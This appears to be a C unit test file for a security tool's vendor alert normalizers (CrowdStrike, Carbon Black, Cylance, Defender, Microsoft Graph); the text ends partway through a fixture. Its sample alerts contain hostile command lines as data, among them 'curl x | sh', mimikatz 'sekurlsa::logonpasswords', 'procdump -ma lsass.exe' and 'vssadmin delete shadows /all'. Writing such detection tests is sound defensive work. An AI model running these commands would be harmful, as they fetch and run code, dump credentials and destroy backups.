/*
 * test_vendor.c: the vendor normalizers (ingest/vendor.h): for each vendor and
 * shape, a small document written for this test from the vendor's documented
 * field names, the vendor detected, and every mapped field asserted after the
 * alert gate (alert_normalize); documents that name a vendor but lack what
 * makes an alert rejected with the field named; the shared helpers (paths,
 * times, placeholders) and the Windows Event XML parser with its refusals.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "core/limits.h"
#include "ingest/vendor.h"
#include "ingest/vendor_internal.h"
#include "model/alert.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define NOW 1796032116123LL /* 2026-11-30T09:48:36.123Z */

/* JSON written as C tokens: J({"a": "b"}) is the string {"a": "b"}. */
#define J(...) #__VA_ARGS__

/* --- helpers ------------------------------------------------------------------ */

/* The value at a path ("process.parent.pid", "email.to[0]") as text: strings
 * as they are, numbers in decimal, true/false; NULL when absent. */
static const char *field(json_t *a, const char *path, char *buf, size_t cap)
{
    json_t *cur = a;
    const char *p = path;
    while (cur != NULL && *p) {
        char part[64];
        size_t n = strcspn(p, ".[");
        if (n >= sizeof(part))
            return NULL;
        memcpy(part, p, n);
        part[n] = '\0';
        if (n > 0)
            cur = json_object_get(cur, part);
        p += n;
        if (*p == '[') {
            cur = json_array_get(cur, strtoul(p + 1, NULL, 10));
            p = strchr(p, ']');
            if (p == NULL)
                return NULL;
            p++;
        }
        if (*p == '.')
            p++;
    }
    if (cur == NULL)
        return NULL;
    if (json_is_string(cur))
        return json_string_value(cur);
    if (json_is_integer(cur))
        snprintf(buf, cap, "%lld", (long long)json_integer_value(cur));
    else if (json_is_real(cur))
        snprintf(buf, cap, "%g", json_real_value(cur));
    else if (json_is_boolean(cur))
        snprintf(buf, cap, "%s", json_is_true(cur) ? "true" : "false");
    else
        snprintf(buf, cap, "<%s>", json_is_object(cur) ? "object" : "array");
    return buf;
}

static bool has_observable(json_t *a, const char *type, const char *value)
{
    size_t i;
    json_t *o;
    json_array_foreach(json_object_get(a, "observables"), i, o)
    {
        if (strcmp(json_string_value(json_object_get(o, "type")), type) == 0 &&
            strcmp(json_string_value(json_object_get(o, "value")), value) == 0)
            return true;
    }
    return false;
}

/* Checks "path=value", "!path" (absent) and "obs:type:value" expectations. */
static void expect_all(const char *name, json_t *a, const char *const *expect)
{
    for (size_t i = 0; expect[i] != NULL; i++) {
        const char *e = expect[i];
        char buf[64];
        if (strncmp(e, "obs:", 4) == 0) {
            char type[16];
            const char *colon = strchr(e + 4, ':');
            assert_non_null(colon);
            snprintf(type, sizeof(type), "%.*s", (int)(colon - e - 4), e + 4);
            if (!has_observable(a, type, colon + 1))
                fail_msg("%s: no observable %s %s", name, type, colon + 1);
            continue;
        }
        if (e[0] == '!') {
            const char *v = field(a, e + 1, buf, sizeof(buf));
            if (v != NULL)
                fail_msg("%s: %s should be absent, is \"%s\"", name, e + 1, v);
            continue;
        }
        const char *eq = strchr(e, '=');
        assert_non_null(eq);
        char path[96];
        snprintf(path, sizeof(path), "%.*s", (int)(eq - e), e);
        const char *v = field(a, path, buf, sizeof(buf));
        if (v == NULL)
            fail_msg("%s: %s is absent, expected \"%s\"", name, path, eq + 1);
        if (strcmp(v, eq + 1) != 0)
            fail_msg("%s: %s is \"%s\", expected \"%s\"", name, path, v, eq + 1);
    }
}

static json_t *load(const char *text)
{
    json_error_t je;
    json_t *doc = json_loads(text, JSON_REJECT_DUPLICATES, &je);
    if (doc == NULL)
        fail_msg("fixture is not JSON (line %d: %s): %s", je.line, je.text, text);
    return doc;
}

/* Runs the gate on a vendor's alert (which it releases) and returns the
 * normalized alert. */
static json_t *gate(const char *name, json_t *in)
{
    struct alert_opts o = {NOW, "test", NULL};
    struct rp_error err;
    json_t *out = NULL;
    if (alert_normalize(in, &o, &out, &err) != RP_OK)
        fail_msg("%s: the gate refused the vendor's alert: %s", name, err.msg);
    json_decref(in);
    return out;
}

struct accept_case {
    const char *name;
    const char *vendor; /* expected vendor */
    const char *json;
    const char *const *expect;
};

static void run_accept(const struct accept_case *c)
{
    json_t *doc = load(c->json);
    json_t *a = NULL;
    const char *vendor = NULL;
    struct rp_error err;
    rp_status st = vendor_normalize(doc, &a, &vendor, &err);
    if (st != RP_OK)
        fail_msg("%s: status %d: %s", c->name, st, err.msg);
    assert_non_null(vendor);
    if (strcmp(vendor, c->vendor) != 0)
        fail_msg("%s: detected as %s, expected %s", c->name, vendor, c->vendor);
    assert_ptr_equal(json_object_get(a, "raw"), doc); /* raw is the document itself */
    /* the same document named explicitly maps the same way */
    json_t *b = NULL;
    assert_int_equal(vendor_normalize_as(c->vendor, doc, &b, &err), RP_OK);
    assert_true(json_equal(a, b));
    json_decref(b);
    json_t *out = gate(c->name, a);
    expect_all(c->name, out, c->expect);
    assert_string_equal(field(out, "source", NULL, 0), c->vendor);
    json_decref(out);
    json_decref(doc);
}

struct reject_case {
    const char *name;
    const char *json;
    rp_status st;
    const char *msg; /* a part of the message */
};

static void run_reject(const struct reject_case *c)
{
    json_t *doc = load(c->json);
    json_t *a = (json_t *)1;
    struct rp_error err;
    err.msg[0] = '\0';
    rp_status st = vendor_normalize(doc, &a, NULL, &err);
    if (st != c->st)
        fail_msg("%s: status %d, expected %d (%s)", c->name, st, c->st, err.msg);
    assert_null(a);
    if (strstr(err.msg, c->msg) == NULL)
        fail_msg("%s: message \"%s\" lacks \"%s\"", c->name, err.msg, c->msg);
    json_decref(doc);
}

#define EXPECT(...) ((const char *const[]){__VA_ARGS__, NULL})

/* --- CrowdStrike --------------------------------------------------------------- */

static const struct accept_case CROWDSTRIKE[] = {
    {"legacy DetectionSummaryEvent", "crowdstrike", J({
         "metadata" : {
             "customerIDString" : "cid1",
             "offset" : 42,
             "eventType" : "DetectionSummaryEvent",
             "eventCreationTime" : 1764000000000,
             "version" : "1.0"
         },
         "event" : {
             "ProcessStartTime" : 1763999990,
             "ProcessEndTime" : 0,
             "ProcessId" : 48270216735,
             "ParentProcessId" : 48270000001,
             "ComputerName" : "WS-042",
             "UserName" : "CORP\\alice",
             "DetectName" : "Credential Dumping",
             "DetectDescription" : "Mimikatz-like credential theft",
             "Severity" : 4,
             "SeverityName" : "High",
             "FileName" : "mimi.exe",
             "FilePath" : "\\Device\\HarddiskVolume2\\Users\\alice\\Downloads",
             "CommandLine" : "mimi.exe sekurlsa::logonpasswords",
             "SHA256String" : "A3B1C2D4E5F60718293A4B5C6D7E8F901234567890ABCDEF1234567890ABCDEF",
             "MD5String" : "0123456789ABCDEF0123456789ABCDEF",
             "SHA1String" : "0000000000000000000000000000000000000000",
             "MachineDomain" : "CORP",
             "DetectId" : "ldt:aaa:111",
             "FalconHostLink" : "https://falcon.crowdstrike.com/x",
             "SensorId" : "aaa",
             "LocalIP" : "10.1.2.3",
             "Tactic" : "Credential Access",
             "Technique" : "OS Credential Dumping",
             "Objective" : "Gain Access",
             "PatternDispositionDescription" : "Prevention, process killed.",
             "PatternDispositionValue" : 16,
             "ParentImageFileName" : "C:\\Windows\\System32\\cmd.exe",
             "ParentCommandLine" : "cmd.exe /c mimi.exe",
             "IOCType" : "hash_sha256",
             "IOCValue" : "a3b1c2d4e5f60718293a4b5c6d7e8f901234567890abcdef1234567890abcdef",
             "NetworkAccesses" :
                 [ {"RemoteAddress" : "203.0.113.7", "RemotePort" : 443, "LocalPort" : 50000} ]
         }
     }),
     EXPECT("kind=endpoint", "rule=Credential Dumping", "title=Mimikatz-like credential theft",
            "severity=70", "event_time=2025-11-24T16:00:00.000Z", "host.name=ws-042",
            "host.ip=10.1.2.3", "host.id=aaa", "user.name=alice", "user.domain=CORP",
            "process.name=mimi.exe",
            "process.path=\\Device\\HarddiskVolume2\\Users\\alice\\Downloads\\mimi.exe",
            "process.cmdline=mimi.exe sekurlsa::logonpasswords",
            "process.md5=0123456789abcdef0123456789abcdef",
            "process.sha256=a3b1c2d4e5f60718293a4b5c6d7e8f901234567890abcdef1234567890abcdef",
            "process.parent.name=cmd.exe", "process.parent.cmdline=cmd.exe /c mimi.exe",
            "!process.pid", "dst.ip=203.0.113.7", "dst.port=443",
            "extra.crowdstrike.ProcessId=48270216735", "extra.crowdstrike.DetectId=ldt:aaa:111",
            "extra.crowdstrike.customerIDString=cid1", "extra.crowdstrike.Tactic=Credential Access",
            "extra.crowdstrike.event_type=DetectionSummaryEvent", "obs:ipv4:203.0.113.7",
            "obs:sha256:a3b1c2d4e5f60718293a4b5c6d7e8f901234567890abcdef1234567890abcdef")},
    {"EppDetectionSummaryEvent", "crowdstrike", J({
         "metadata" : {
             "eventType" : "EppDetectionSummaryEvent",
             "eventCreationTime" : "2025-11-24T16:00:00Z"
         },
         "event" : {
             "Hostname" : "mac-7",
             "UserName" : "bob",
             "Name" : "Suspicious Script",
             "Description" : "A script ran",
             "Severity" : 50,
             "SeverityName" : "Medium",
             "FileName" : "sh",
             "FilePath" : "/bin/sh",
             "CommandLine" : "sh -c 'curl x | sh'",
             "LogonDomain" : "LOCAL",
             "AgentId" : "agent-9",
             "PlatformName" : "Mac"
         }
     }),
     EXPECT("kind=endpoint", "rule=Suspicious Script", "title=A script ran", "severity=50",
            "host.name=mac-7", "host.id=agent-9", "host.os=Mac", "user.name=bob",
            "user.domain=LOCAL", "process.name=sh", "process.path=/bin/sh",
            "event_time=2025-11-24T16:00:00.000Z")},
    {"flattened stream event", "crowdstrike", J({
         "ExternalApiType" : "Event_EppDetectionSummaryEvent",
         "EventType" : "Event_ExternalApiEvent",
         "Hostname" : "ws-9",
         "Name" : "NGAV",
         "Description" : "Adware",
         "Severity" : 2,
         "SeverityName" : "Low",
         "FileName" : "app",
         "FilePath" : "/Applications/app.app/Contents/MacOS/",
         "UTCTimestamp" : "2025-11-20 10:00:00Z",
         "LocalIP" : "N/A",
         "CustomerIdString" : "cid2"
     }),
     EXPECT("rule=NGAV", "severity=30", "process.path=/Applications/app.app/Contents/MacOS/app",
            "event_time=2025-11-20T10:00:00.000Z", "!host.ip", "!extra.crowdstrike.dropped",
            "extra.crowdstrike.customerIDString=cid2")},
    {"detects API object", "crowdstrike", J({
         "cid" : "cid3",
         "detection_id" : "ldt:dev1:77",
         "created_timestamp" : "2025-11-25T08:00:00.123456Z",
         "first_behavior" : "2025-11-25T07:59:00Z",
         "max_severity" : 70,
         "max_severity_displayname" : "High",
         "status" : "new",
         "device" : {
             "device_id" : "dev1",
             "hostname" : "SRV-DB1",
             "local_ip" : "10.9.8.7",
             "external_ip" : "198.51.100.4",
             "platform_name" : "Windows",
             "os_version" : "Windows Server 2019",
             "machine_domain" : "corp.example"
         },
         "hostinfo" : {"domain" : "corp.example"},
         "behaviors" : [
             {
                 "behavior_id" : "1",
                 "severity" : 30,
                 "display_name" : "LowThing",
                 "filename" : "a.exe"
             },
             {
                 "behavior_id" : "2",
                 "severity" : 70,
                 "display_name" : "CredentialTheft",
                 "description" : "Dumped LSASS",
                 "filename" : "procdump.exe",
                 "filepath" : "\\Device\\HarddiskVolume1\\tools\\procdump.exe",
                 "cmdline" : "procdump -ma lsass.exe",
                 "user_name" : "svc_backup",
                 "sha256" : "1111111111111111111111111111111111111111111111111111111111111111",
                 "md5" : "22222222222222222222222222222222",
                 "tactic" : "Credential Access",
                 "technique" : "LSASS Memory",
                 "ioc_type" : "domain",
                 "ioc_value" : "evil.example",
                 "parent_details" : {"parent_cmdline" : "cmd.exe"},
                 "timestamp" : "2025-11-25T07:59:30Z"
             }
         ]
     }),
     EXPECT("kind=endpoint", "rule=CredentialTheft", "title=Dumped LSASS", "severity=70",
            "host.name=srv-db1", "host.ip=10.9.8.7", "host.id=dev1", "host.os=Windows Server 2019",
            "user.name=svc_backup", "user.domain=corp.example", "process.name=procdump.exe",
            "process.path=\\Device\\HarddiskVolume1\\tools\\procdump.exe",
            "process.cmdline=procdump -ma lsass.exe",
            "process.sha256=1111111111111111111111111111111111111111111111111111111111111111",
            "process.md5=22222222222222222222222222222222", "process.parent.cmdline=cmd.exe",
            "event_time=2025-11-25T07:59:00.000Z", "extra.crowdstrike.detection_id=ldt:dev1:77",
            "extra.crowdstrike.external_ip=198.51.100.4", "extra.crowdstrike.behaviors=2",
            "obs:domain:evil.example")},
    {"alerts API object", "crowdstrike", J({
         "composite_id" : "cid:ind:dev2:99",
         "id" : "ind:dev2:99",
         "cid" : "cid4",
         "agent_id" : "dev2",
         "name" : "MaliciousDocument",
         "display_name" : "Malicious document",
         "description" : "Office spawned a shell",
         "severity" : 90,
         "severity_name" : "Critical",
         "product" : "epp",
         "type" : "ldt",
         "timestamp" : "2025-11-26T12:00:00Z",
         "device" : {
             "device_id" : "dev2",
             "hostname" : "LAPTOP-3",
             "local_ip" : "192.168.1.20",
             "platform_name" : "Windows"
         },
         "user_name" : "carol",
         "user_principal" : "carol@corp.example",
         "logon_domain" : "CORP",
         "filename" : "powershell.exe",
         "filepath" : "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
         "cmdline" : "powershell -enc AAAA",
         "local_process_id" : "4242",
         "sha256" : "3333333333333333333333333333333333333333333333333333333333333333",
         "md5" : "44444444444444444444444444444444",
         "parent_details" : {
             "filename" : "WINWORD.EXE",
             "cmdline" : "WINWORD.EXE /n doc.docm",
             "local_process_id" : 1000
         },
         "tactic" : "Execution",
         "falcon_host_link" : "https://falcon.crowdstrike.com/y"
     }),
     EXPECT("kind=endpoint", "rule=MaliciousDocument", "title=Office spawned a shell",
            "severity=90", "host.name=laptop-3", "host.ip=192.168.1.20", "host.id=dev2",
            "host.os=Windows", "user.name=carol@corp.example", "user.email=carol@corp.example",
            "user.domain=CORP", "process.name=powershell.exe", "process.pid=4242",
            "process.cmdline=powershell -enc AAAA", "process.parent.name=WINWORD.EXE",
            "process.parent.pid=1000", "process.parent.cmdline=WINWORD.EXE /n doc.docm",
            "process.md5=44444444444444444444444444444444", "event_time=2025-11-26T12:00:00.000Z",
            "extra.crowdstrike.composite_id=cid:ind:dev2:99", "extra.crowdstrike.product=epp")},
    {"IncidentSummaryEvent", "crowdstrike", J({
         "metadata" : {"eventType" : "IncidentSummaryEvent", "eventCreationTime" : 1764000000000},
         "event" : {
             "IncidentStartTime" : 1763990000,
             "IncidentEndTime" : 1763999000,
             "FalconHostLink" : "https://falcon.crowdstrike.com/i",
             "State" : "open",
             "FineScore" : 7.5
         }
     }),
     EXPECT("rule=Falcon incident", "severity=75", "extra.crowdstrike.State=open",
            "event_time=2025-11-24T13:13:20.000Z")},
};

static const struct reject_case CROWDSTRIKE_BAD[] = {
    {"an audit event is no detection",
     J({"metadata" : {"eventType" : "AuthActivityAuditEvent"}, "event" : {"UserId" : "x"}}),
     RP_E_INVALID,
     "crowdstrike: metadata.eventType: \"AuthActivityAuditEvent\" is not a detection"},
    {"a detection without a name",
     J({"metadata" : {"eventType" : "DetectionSummaryEvent"}, "event" : {"ComputerName" : "x"}}),
     RP_E_INVALID, "crowdstrike: event.DetectName: required"},
};

/* --- Carbon Black ---------------------------------------------------------------- */

static const struct accept_case CARBONBLACK[] = {
    {"v6 CB_ANALYTICS", "carbonblack", J({
         "type" : "CB_ANALYTICS",
         "id" : "a1",
         "legacy_alert_id" : "L1",
         "org_key" : "ORG1",
         "create_time" : "2025-11-01T10:00:05Z",
         "first_event_time" : "2025-11-01T10:00:00Z",
         "threat_id" : "t1",
         "severity" : 6,
         "category" : "THREAT",
         "device_id" : 77,
         "device_os" : "WINDOWS",
         "device_os_version" : "Windows 11 x64",
         "device_name" : "WS-77",
         "device_username" : "dave@corp.example",
         "device_internal_ip" : "10.7.7.7",
         "device_external_ip" : "198.51.100.77",
         "reason" : "The application x.exe injected code",
         "reason_code" : "R_INJECT",
         "threat_cause_actor_sha256" :
             "5555555555555555555555555555555555555555555555555555555555555555",
         "threat_cause_actor_md5" : "66666666666666666666666666666666",
         "threat_cause_actor_name" : "x.exe",
         "threat_cause_actor_process_pid" : "3292-132541831999374961-0",
         "run_state" : "RAN",
         "workflow" : {"state" : "OPEN"},
         "kill_chain_status" : ["INSTALL_RUN"]
     }),
     EXPECT("kind=endpoint", "rule=R_INJECT", "title=The application x.exe injected code",
            "severity=60", "event_time=2025-11-01T10:00:00.000Z", "host.name=ws-77", "host.id=77",
            "host.ip=10.7.7.7", "host.os=Windows 11 x64", "user.name=dave@corp.example",
            "user.email=dave@corp.example", "process.name=x.exe", "process.pid=3292",
            "process.sha256=5555555555555555555555555555555555555555555555555555555555555555",
            "process.md5=66666666666666666666666666666666", "extra.carbonblack.id=a1",
            "extra.carbonblack.workflow_status=OPEN",
            "extra.carbonblack.kill_chain_status[0]=INSTALL_RUN",
            "extra.carbonblack.device_external_ip=198.51.100.77")},
    {"v6 WATCHLIST", "carbonblack", J({
         "type" : "WATCHLIST",
         "id" : "w1",
         "org_key" : "ORG1",
         "create_time" : "2025-11-02T10:00:00Z",
         "severity" : 8,
         "device_id" : 5,
         "device_name" : "CORP\\WS-5",
         "device_username" : "CORP\\erin",
         "device_internal_ip" : "N/A",
         "report_name" : "PowerShell download cradle",
         "watchlists" : [ {"id" : "wl1", "name" : "Advanced Threats"} ],
         "process_path" : "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe",
         "threat_cause_actor_sha256" :
             "7777777777777777777777777777777777777777777777777777777777777777"
     }),
     EXPECT("rule=PowerShell download cradle", "title=PowerShell download cradle", "severity=80",
            "host.name=ws-5", "!host.ip", "user.name=erin", "user.domain=CORP",
            "process.name=powershell.exe",
            "process.path=c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe",
            "event_time=2025-11-02T10:00:00.000Z")},
    {"v7 CB_ANALYTICS", "carbonblack", J({
         "type" : "CB_ANALYTICS",
         "id" : "b2",
         "org_key" : "ORG2",
         "backend_timestamp" : "2025-11-03T09:00:05.000Z",
         "first_event_timestamp" : "2025-11-03T09:00:00.000Z",
         "detection_timestamp" : "2025-11-03T09:00:02Z",
         "severity" : 4,
         "reason" : "A known bad app ran",
         "reason_code" : "T_POL_TERM : bad.exe",
         "device_id" : 9,
         "device_name" : "LT-9",
         "device_os" : "MAC",
         "device_internal_ip" : "172.16.0.9",
         "device_username" : "frank@corp.example",
         "process_name" : "/usr/local/bin/bad",
         "process_pid" : 501,
         "process_cmdline" : "/usr/local/bin/bad --now",
         "process_sha256" : "8888888888888888888888888888888888888888888888888888888888888888",
         "process_md5" : "99999999999999999999999999999999",
         "process_username" : "frank",
         "parent_name" : "/bin/zsh",
         "parent_pid" : 400,
         "parent_cmdline" : "-zsh",
         "blocked_name" : "/usr/local/bin/bad",
         "blocked_sha256" : "8888888888888888888888888888888888888888888888888888888888888888",
         "ttps" : ["POLICY_TERMINATE"],
         "workflow" : {"status" : "OPEN"},
         "determination" : {"value" : "NONE"}
     }),
     EXPECT("rule=T_POL_TERM : bad.exe", "title=A known bad app ran", "severity=40",
            "event_time=2025-11-03T09:00:00.000Z", "host.name=lt-9", "host.os=MAC",
            "host.ip=172.16.0.9", "user.name=frank", "process.name=bad",
            "process.path=/usr/local/bin/bad", "process.pid=501",
            "process.cmdline=/usr/local/bin/bad --now", "process.parent.name=zsh",
            "process.parent.pid=400", "process.parent.cmdline=-zsh", "file.name=bad",
            "file.path=/usr/local/bin/bad",
            "file.sha256=8888888888888888888888888888888888888888888888888888888888888888",
            "extra.carbonblack.determination=NONE", "extra.carbonblack.ttps[0]=POLICY_TERMINATE")},
    {"v7 DEVICE_CONTROL", "carbonblack", J({
         "type" : "DEVICE_CONTROL",
         "id" : "d3",
         "org_key" : "ORG2",
         "backend_timestamp" : "2025-11-04T09:00:00Z",
         "severity" : 3,
         "reason" : "Access to a blocked USB device",
         "device_id" : 10,
         "device_name" : "WS-10",
         "external_device_friendly_name" : "Kingston DataTraveler",
         "vendor_name" : "Kingston",
         "product_name" : "DT 3.0",
         "serial_number" : "SN123"
     }),
     EXPECT("rule=DEVICE_CONTROL", "title=Access to a blocked USB device", "severity=30",
            "host.name=ws-10", "extra.carbonblack.serial_number=SN123",
            "extra.carbonblack.external_device_friendly_name=Kingston DataTraveler")},
};

/* --- Cylance ----------------------------------------------------------------------- */

static const struct accept_case CYLANCE[] = {
    {"threat object", "cylance", J({
         "name" : "SysMonitor.exe",
         "sha256" : "ABCDEF0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF0123456789",
         "md5" : "ABCDEF0123456789ABCDEF0123456789",
         "cylance_score" : -1.0,
         "av_industry" : null,
         "classification" : "Malware",
         "sub_classification" : "Trojan",
         "global_quarantined" : false,
         "safelisted" : false,
         "file_size" : 2177386,
         "unique_to_cylance" : true,
         "last_found" : "2025-10-28T23:36:58"
     }),
     EXPECT("kind=endpoint", "rule=Malware/Trojan", "title=Cylance: Malware/Trojan SysMonitor.exe",
            "severity=90", "file.name=SysMonitor.exe",
            "file.sha256=abcdef0123456789abcdef0123456789abcdef0123456789abcdef0123456789",
            "file.md5=abcdef0123456789abcdef0123456789", "file.size=2177386",
            "event_time=2025-10-28T23:36:58.000Z", "extra.cylance.unique_to_cylance=true",
            "extra.cylance.classification=Malware")},
    {"device threat with its device", "cylance", J({
         "name" : "toolbar.dll",
         "sha256" : "1234567890123456789012345678901234567890123456789012345678901234",
         "file_status" : "Quarantined",
         "file_path" : "C:\\Users\\gina\\AppData\\toolbar.dll",
         "cylance_score" : 20,
         "classification" : "PUP",
         "sub_classification" : "Toolbar",
         "date_found" : "2025-11-05T01:02:03",
         "device_name" : "WS-GINA",
         "device_id" : "dev-g",
         "ip_addresses" : [ "10.0.5.5", "fe80::1" ]
     }),
     EXPECT("rule=PUP/Toolbar", "severity=30", "file.path=C:\\Users\\gina\\AppData\\toolbar.dll",
            "host.name=ws-gina", "host.id=dev-g", "host.ip=10.0.5.5",
            "event_time=2025-11-05T01:02:03.000Z", "extra.cylance.file_status=Quarantined")},
};

static const struct reject_case CYLANCE_BAD[] = {
    {"a threat whose hash is not one",
     J({"name" : "x.exe", "sha256" : "nothex", "cylance_score" : -0.9}), RP_E_INVALID,
     "cylance: sha256: not a SHA-256"},
    {"a threat with a hash that is no string",
     J({"name" : "x.exe", "sha256" : 5, "cylance_score" : -0.9}), RP_E_INVALID,
     "cylance: sha256: required"},
};

/* --- Defender ------------------------------------------------------------------------- */

static const struct accept_case DEFENDER[] = {
    {"API alert with evidence", "defender", J({
         "id" : "da6370_1",
         "incidentId" : 14,
         "severity" : "High",
         "status" : "New",
         "detectionSource" : "WindowsDefenderAv",
         "category" : "Execution",
         "title" : "Suspicious PowerShell",
         "description" : "A script ran",
         "alertCreationTime" : "2025-11-10T10:00:05.1234567Z",
         "firstEventTime" : "2025-11-10T10:00:00.1234567Z",
         "machineId" : "m-123",
         "computerDnsName" : "WS-H.corp.example",
         "relatedUser" : {"userName" : "harry", "domainName" : "CORP"},
         "mitreTechniques" : ["T1059.001"],
         "evidence" : [
             {
                 "entityType" : "User",
                 "accountName" : "harry",
                 "domainName" : "CORP",
                 "userPrincipalName" : "harry@corp.example"
             },
             {
                 "entityType" : "Process",
                 "fileName" : "powershell.exe",
                 "filePath" : "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
                 "processId" : 7000,
                 "processCommandLine" : "powershell -nop -w hidden",
                 "sha256" : "abababababababababababababababababababababababababababababababab",
                 "parentProcessId" : 6000,
                 "parentProcessFileName" : "explorer.exe"
             },
             {
                 "entityType" : "File",
                 "fileName" : "drop.ps1",
                 "filePath" : "C:\\Temp",
                 "sha1" : "cdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcd",
                 "sha256" : "efefefefefefefefefefefefefefefefefefefefefefefefefefefefefefefef"
             },
             {"entityType" : "Ip", "ipAddress" : "203.0.113.99"},
             {"entityType" : "Url", "url" : "http://evil.example/p.ps1"}
         ]
     }),
     EXPECT("kind=endpoint", "rule=Suspicious PowerShell", "title=Suspicious PowerShell",
            "severity=70", "event_time=2025-11-10T10:00:00.123Z", "host.name=ws-h.corp.example",
            "host.id=m-123", "user.name=harry", "user.domain=CORP", "process.name=powershell.exe",
            "process.path=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "process.pid=7000", "process.cmdline=powershell -nop -w hidden",
            "process.sha256=abababababababababababababababababababababababababababababababab",
            "process.parent.name=explorer.exe", "process.parent.pid=6000", "file.name=drop.ps1",
            "file.path=C:\\Temp\\drop.ps1", "file.sha1=cdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcd",
            "obs:ipv4:203.0.113.99", "obs:url:http://evil.example/p.ps1",
            "extra.defender.incidentId=14", "extra.defender.mitreTechniques[0]=T1059.001")},
    {"streaming AlertEvidence", "defender", J({
         "time" : "2025-11-11T10:00:01Z",
         "category" : "AdvancedHunting-AlertEvidence",
         "tenantId" : "t-1",
         "properties" : {
             "AlertId" : "da1",
             "Timestamp" : "2025-11-11T10:00:00.0000000Z",
             "Title" : "Malware found",
             "Severity" : "Medium",
             "ServiceSource" : "Microsoft Defender for Endpoint",
             "EntityType" : "File",
             "DeviceName" : "ws-i",
             "DeviceId" : "d-i",
             "FileName" : "bad.dll",
             "FolderPath" : "C:\\Users\\ivy\\bad.dll",
             "SHA256" : "1212121212121212121212121212121212121212121212121212121212121212",
             "AccountUpn" : "ivy@corp.example",
             "RemoteIP" : "198.51.100.12"
         }
     }),
     EXPECT("kind=endpoint", "rule=Malware found", "severity=50", "host.name=ws-i", "host.id=d-i",
            "file.name=bad.dll", "file.path=C:\\Users\\ivy\\bad.dll", "user.email=ivy@corp.example",
            "obs:ipv4:198.51.100.12", "event_time=2025-11-11T10:00:00.000Z",
            "extra.defender.AlertId=da1")},
};

static const struct reject_case DEFENDER_BAD[] = {
    {"hunting telemetry is no alert",
     J({"category" : "AdvancedHunting-DeviceProcessEvents", "properties" : {"DeviceName" : "x"}}),
     RP_E_INVALID,
     "defender: category: \"AdvancedHunting-DeviceProcessEvents\" is hunting telemetry"},
    {"an alert without a title",
     J({"id" : "x", "alertCreationTime" : "2025-11-10T10:00:00Z", "machineId" : "m"}), RP_E_INVALID,
     "defender: title: required"},
};

/* --- Microsoft Graph ------------------------------------------------------------------ */

static const struct accept_case MSGRAPH[] = {
    {"alerts_v2 endpoint", "msgraph", J({
         "id" : "g1",
         "providerAlertId" : "p1",
         "incidentId" : "99",
         "status" : "new",
         "severity" : "medium",
         "serviceSource" : "microsoftDefenderForEndpoint",
         "detectionSource" : "antivirus",
         "title" : "Ransomware behavior",
         "category" : "Impact",
         "createdDateTime" : "2025-11-12T10:00:05Z",
         "firstActivityDateTime" : "2025-11-12T10:00:00Z",
         "tenantId" : "ten",
         "evidence" : [
             {
                 "@odata.type" : "#microsoft.graph.security.deviceEvidence",
                 "deviceDnsName" : "ws-j.corp.example",
                 "mdeDeviceId" : "mde-j",
                 "osPlatform" : "Windows11",
                 "roles" : []
             },
             {
                 "@odata.type" : "#microsoft.graph.security.processEvidence",
                 "processId" : 321,
                 "processCommandLine" : "vssadmin delete shadows /all",
                 "imageFile" : {
                     "fileName" : "vssadmin.exe",
                     "filePath" : "C:\\Windows\\System32",
                     "sha256" : "3434343434343434343434343434343434343434343434343434343434343434",
                     "md5" : "56565656565656565656565656565656"
                 },
                 "parentProcessId" : 300,
                 "parentProcessImageFile" : {"fileName" : "cmd.exe"},
                 "userAccount" : {"accountName" : "jack", "domainName" : "CORP"}
             },
             {
                 "@odata.type" : "#microsoft.graph.security.fileEvidence",
                 "fileDetails" : {
                     "fileName" : "note.txt",
                     "filePath" : "C:\\Users\\jack",
                     "sha1" : "7878787878787878787878787878787878787878",
                     "fileSize" : 12
                 }
             },
             {
                 "@odata.type" : "#microsoft.graph.security.ipEvidence",
                 "ipAddress" : "203.0.113.50",
                 "roles" : ["attacker"]
             },
             {
                 "@odata.type" : "#microsoft.graph.security.urlEvidence",
                 "url" : "https://bad.example/x"
             }
         ]
     }),
     EXPECT("kind=endpoint", "rule=Ransomware behavior", "severity=50",
            "host.name=ws-j.corp.example", "host.id=mde-j", "host.os=Windows11", "user.name=jack",
            "user.domain=CORP", "process.name=vssadmin.exe",
            "process.path=C:\\Windows\\System32\\vssadmin.exe", "process.pid=321",
            "process.cmdline=vssadmin delete shadows /all",
            "process.md5=56565656565656565656565656565656", "process.parent.name=cmd.exe",
            "process.parent.pid=300", "file.name=note.txt", "file.path=C:\\Users\\jack\\note.txt",
            "file.size=12", "file.sha1=7878787878787878787878787878787878787878",
            "src.ip=203.0.113.50", "obs:url:https://bad.example/x",
            "event_time=2025-11-12T10:00:00.000Z", "extra.msgraph.incidentId=99")},
    {"alerts_v2 phishing mail", "msgraph", J({
         "id" : "g2",
         "serviceSource" : "microsoftDefenderForOffice365",
         "severity" : "high",
         "title" : "Email messages containing malicious URL removed after delivery",
         "createdDateTime" : "2025-11-13T10:00:00Z",
         "evidence" : [
             {
                 "networkMessageId" : "n1",
                 "internetMessageId" : "<abc@mail.example>",
                 "subject" : "Invoice overdue",
                 "senderIp" : "192.0.2.33",
                 "p1Sender" : {"emailAddress" : "billing@evil.example"},
                 "recipientEmailAddress" : "kim@corp.example",
                 "urls" : ["http://evil.example/pay"]
             },
             {"primaryAddress" : "kim@corp.example", "userAccount" : {"accountName" : "kim"}}
         ]
     }),
     EXPECT("kind=phishing", "severity=70", "email.message_id=<abc@mail.example>",
            "email.subject=Invoice overdue", "email.from=billing@evil.example",
            "email.to[0]=kim@corp.example", "src.ip=192.0.2.33", "user.email=kim@corp.example",
            "user.name=kim", "obs:url:http://evil.example/pay", "obs:email:billing@evil.example")},
    {"v1 alert", "msgraph", J({
         "id" : "v1a",
         "azureTenantId" : "ten",
         "title" : "Suspicious sign-in",
         "category" : "Unfamiliar location",
         "severity" : "low",
         "status" : "newAlert",
         "eventDateTime" : "2025-11-14T10:00:00Z",
